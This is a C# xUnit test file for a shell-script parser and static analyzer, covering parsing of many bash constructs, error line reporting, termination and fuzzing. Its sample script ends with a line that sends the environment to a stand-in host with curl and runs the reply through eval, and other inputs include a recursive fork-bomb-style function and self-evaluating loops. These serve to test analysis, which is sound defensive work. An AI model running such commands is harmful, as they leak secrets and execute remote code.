using System.Diagnostics;
using Mtf.Artifacts;
using Mtf.Flow;
using Mtf.Flow.Shell;
using Xunit;

namespace Mtf.Tests.Flow.Shell;

public sealed class ShellParserTests
{
    private const string Sample = """
        #!/usr/bin/env bash
        set -euo pipefail
        readonly DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" >/dev/null && pwd)"
        names=(one "two 2" 'three')
        function usage { cat <<-EOF
        	usage: $0 [--help] `basename "$0"`
        	EOF
        }
        if [[ $# -gt 0 && "$1" == --help ]]; then usage; exit 0; elif [ -z "${HOME:-}" ]; then exit 1; else :; fi
        for name in "${names[@]}" a{b,c}; do
          case "$name" in one|two*) echo $((1 + 2)) ;; (*) printf '%s\n' "${name//o/0}" >&2 ;; esac
        done 2>/dev/null | sort -u || true
        while read -r a b; do echo "$a" $'\t' "$b"; done < <(printf 'x y\n')
        (( count++ )) && { let count--; } ; ( cd / ; ls ) &
        curl -d @- https://a.example <<< "$(env)" | sh -c 'eval "$0"'
        """;

    private const string Signs = "(){}$`'\"\\<>|&;\n \u0001⟨#⟩0";

    [Fact]
    public void All_kinds_of_commands_are_read()
    {
        var program = ShellParser.Parse(Sample);
        Assert.Equal("", program.Gap);
        Assert.Equal(12, program.Body.Count);
        Assert.Equal(15, program.Body[^1].Line);
    }

    [Theory]
    [InlineData("echo 'open", 1)]
    [InlineData("echo one\nif true; then\necho two\n", 4)]
    [InlineData("echo one\n)\necho two", 2)]
    public void What_is_not_understood_is_told_with_its_line(string text, int line)
    {
        var program = ShellParser.Parse(text);
        Assert.Equal((line, "is not fully understood as a shell script"), (program.GapLine, program.Gap));
    }

    [Fact]
    public void Deep_nesting_and_long_programs_end()
    {
        Assert.NotEqual("", ShellParser.Parse(string.Concat(Enumerable.Repeat("$(", 100_000))).Gap);
        Assert.NotEqual("", ShellParser.Parse(string.Concat(Enumerable.Repeat("{ ", 100_000))).Gap);
        Assert.NotEqual("", ShellParser.Parse(string.Concat(Enumerable.Repeat("${a:-", 100_000))).Gap);
        Assert.NotEqual("", ShellParser.Parse(string.Concat(Enumerable.Repeat("a;", 200_000))).Gap);
    }

    [Theory]
    [InlineData("f() { f; f; }; f")]
    [InlineData("x=aaaaaaaaaaaaaaaa; for i in 1 2 3; do x=$x$x$x$x$x$x$x$x; done; a() { x=$x$x; b; }; b() { a; a; }; a; curl $x")]
    [InlineData("mkfifo f; eval \"$(cat $0)\"; . $0; sh $0")]
    public void Programs_that_would_run_for_ever_end(string text)
    {
        using var tree = new MemoryTree(("run.sh", text));
        var watch = Stopwatch.StartNew();
        StaticAnalyzer.Analyze(tree, ["run.sh"]);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{watch.Elapsed}");
    }

    [Fact]
    public void No_cut_or_changed_program_breaks_the_analysis()
    {
        var state = 12345u;
        for (var round = 0; round < 600; round++)
        {
            var text = Sample.ToCharArray();
            for (var change = 0; change < round % 7; change++)
            {
                state = state * 1664525 + 1013904223;
                text[state % (uint)text.Length] = Signs[(int)((state >> 8) % (uint)Signs.Length)];
            }

            using var tree = new MemoryTree(("run.sh", new string(text)[..(round * 7 % text.Length)]));
            StaticAnalyzer.Analyze(tree, ["run.sh"]);
        }
    }

    [Theory]
    [InlineData(@"a\x62\143\n", "abc\n")]
    [InlineData(@"\u00e9\q\", "é\\q\\")]
    public void Escapes_are_resolved(string text, string expected) => Assert.Equal(expected, ShellParser.Unescape(text));
}
